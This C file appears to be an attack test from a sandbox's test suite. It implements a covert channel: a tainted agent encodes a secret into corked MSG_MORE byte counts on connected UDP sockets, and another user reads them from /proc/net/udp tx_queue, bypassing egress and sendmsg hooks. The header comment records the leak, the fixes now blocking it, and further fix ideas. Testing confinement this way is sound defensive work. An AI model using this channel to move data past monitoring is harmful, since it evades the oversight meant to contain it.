// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* udp_cork_txq - the SEND queue of the agent's own connected UDP sockets, which /proc/net/udp
 * (and inet sock_diag) shows every user as tx_queue (sk_wmem_alloc): data appended with MSG_MORE
 * is corked in the socket's write queue and never becomes a packet, so no hook on packets sees
 * it. Before the taint the agent connects CK_SOCKS UDP sockets to the collector's UDP port
 * (allowed: untainted). After its recv, on socket i it sends 1 byte with MSG_MORE (the first
 * skb: a fixed truesize) and then appends i * 256 + canary[i] bytes with MSG_MORE: each append
 * adds exactly its length to sk_wmem_alloc (page frags, truesize += copy; measured on 6.18 up to
 * 60000 bytes). A connected UDP socket's send() runs no cgroup/sendmsg4 hook (udp_sendmsg calls
 * it only for an address given with the call), and corked data reaches neither cgroup_skb/egress
 * nor the collector. uid 65534 reads tx_queue of every UDP socket of the agent's uid in
 * /proc/net/udp, subtracts the base (one corked byte on a socket of its own, same route), and
 * decodes index and byte. Verifier: the bytes reassembled, compared with the canary.
 * The pre-taint sweep keeps the agent's own IP sockets (their packets are judged by egress).
 * Result before the fix: host (cgroup backend, 6.18): LEAKED in user and root mode; positive control verified.
 * Status: blocked: cgroup backend, mncd's sweep pushes out pending corks (UDP_CORK off) and
 * disconnects the agent's own datagram sockets connected to a peer its taint disallows, so send()
 * needs an address again (sendmsg4); lsm backend, socket_sendmsg judges the connected peer on
 * every send, MSG_MORE ones included.
 * Bandwidth: ~16 bits per connected UDP socket (a datagram's 65507 bytes), up to the fd limit;
 * presumably re-writable: send() without MSG_MORE flushes the cork (egress drops the datagram,
 * the queue empties) and a new MSG_MORE starts again (not measured under taint here), which
 * would make it unbounded over time from sockets connected once before the taint.
 * Fix idea: the sweep could disconnect (connect AF_UNSPEC) a tainted agent's connected UDP
 * sockets whose peer it may not send to, so a later send() needs an address and meets the
 * sendmsg4 hook; or a cgroup/sendmsg hook that also runs for connected sockets (none on 6.18);
 * or a network namespace per agent (/proc/net/udp is per namespace). */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <sys/socket.h>

#include "atk.h"

#define CK_SOCKS 14 /* "mk" + 12 hex: one byte each */

static int agent(struct atk_ctx *c)
{
    static int s[CK_SOCKS];
    static char fill[CK_SOCKS * 256 + 256];
    long port = atk_argl(c, "udp4");
    struct sockaddr_in to = {.sin_family = AF_INET,
                             .sin_port = htons((uint16_t)(port > 0 ? port : 9)),
                             .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int conn = 0;
    for (int i = 0; i < CK_SOCKS; i++) {
        s[i] = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        long r = s[i] < 0 ? -1 : connect(s[i], (struct sockaddr *)&to, sizeof(to));
        if (i == 0) {
            atk_try(c, "socket udp", s[i]);
            atk_try(c, "connect the collector's udp4 (untainted)", r);
        }
        conn += r == 0;
    }
    atk_note(c, "connected %d sockets", conn);
    atk_recv(c);
    size_t n = strlen(c->secret);
    int done = 0;
    for (int i = 0; i < CK_SOCKS && (size_t)i < n; i++) {
        size_t v = (size_t)i * 256 + (unsigned char)c->secret[i];
        long a = send(s[i], "x", 1, MSG_MORE | MSG_DONTWAIT);
        long b = a == 1 ? send(s[i], fill, v, MSG_MORE | MSG_DONTWAIT) : -1;
        if (i == 0) {
            atk_try(c, "send 1 byte MSG_MORE (tainted)", a);
            atk_try(c, "append MSG_MORE", b);
        }
        done += b == (long)v;
    }
    atk_note(c, "corked %d sockets", done);
    atk_sync(c, "set"); /* the sockets stay open (corked) until the agent exits */
    return 0;
}

static int nobody_reads(struct atk_ctx *c, char *out, size_t n)
{
    /* the base: one corked byte on a socket of our own, to the same kind of destination */
    int m = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    struct sockaddr_in me;
    socklen_t ml = sizeof(me);
    if (m < 0 || connect(m, (struct sockaddr *)&to, sizeof(to)) != 0 || send(m, "x", 1, MSG_MORE) != 1 ||
        getsockname(m, (struct sockaddr *)&me, &ml) != 0)
        return 0;
    FILE *f = fopen("/proc/net/udp", "re");
    if (!f)
        return 0;
    char line[512], msg[CK_SOCKS + 1] = {0};
    unsigned base = 0;
    static unsigned tx[4096], uid[4096];
    int k = 0;
    if (!fgets(line, sizeof(line), f)) {
        fclose(f);
        return 0;
    }
    while (k < 4096 && fgets(line, sizeof(line), f)) {
        unsigned port, t, r, u;
        if (sscanf(line, " %*d: %*x:%x %*x:%*x %*x %x:%x %*x:%*x %*x %u", &port, &t, &r, &u) != 4)
            continue;
        if (port == ntohs(me.sin_port))
            base = t;
        tx[k] = t;
        uid[k++] = u;
    }
    fclose(f);
    for (int i = 0; base && i < k; i++) {
        if (uid[i] != (unsigned)c->agent_uid || tx[i] < base)
            continue;
        unsigned v = tx[i] - base;
        if (v / 256 < CK_SOCKS && v % 256 >= 0x20 && v % 256 < 0x7f)
            msg[v / 256] = (char)(v % 256);
    }
    snprintf(out, n, "%s", msg);
    return 0;
}

static void on_sync(struct atk_ctx *c, const char *tag)
{
    if (strcmp(tag, "set") != 0)
        return;
    char got[64] = {0};
    if (atk_as_uid(c, ATK_NOBODY, nobody_reads, got, sizeof(got)) >= 0 && strstr(got, c->canary))
        atk_evidence(c, "uid 65534 read the canary from the tx_queue (sk_wmem_alloc) of the agent's connected UDP "
                        "sockets in /proc/net/udp: bytes it corked with MSG_MORE after the taint");
}

static const struct atk A = {"udp_cork_txq",
                             "bytes corked (MSG_MORE) on the agent's connected UDP sockets, as /proc/net/udp tx_queue "
                             "shows",
                             ATK_NO_RECV,
                             NULL,
                             agent,
                             on_sync,
                             NULL,
                             NULL};
ATK_MAIN(A)
